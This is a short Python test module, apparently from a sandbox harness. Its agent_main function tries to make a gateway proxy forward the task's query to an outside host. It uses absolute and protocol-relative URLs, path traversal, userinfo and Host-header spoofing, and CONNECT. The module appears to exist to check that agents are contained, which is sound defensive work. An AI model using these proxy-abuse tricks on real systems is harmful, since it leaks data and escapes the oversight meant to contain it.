"""Asks the gateway to forward the problem to another host."""
# kind: exfiltration
# check: accepted
# ends: none
# sees: nothing
# solved: none

from urllib.parse import quote

from assay.http import exchange

PATHS = ("http://example.com/", "//example.com/", "/search/../../example.com/", "/inference/models@example.com/")


def agent_main(problem):
    seen = []
    for path in PATHS:
        for method in ("GET", "CONNECT", "POST"):
            headers = {"Host": "example.com", "X-Forwarded-Host": "example.com", "Connection": "close"}
            target = path + quote(problem["query"][:200], safe="")
            try:
                status, _ = exchange(("proxy", 80), method, target, headers, None, 10, 1000)
            except (OSError, ValueError):
                continue
            if status not in (400, 403):
                seen.append([path, method, status])
    return [{"seen": seen}]
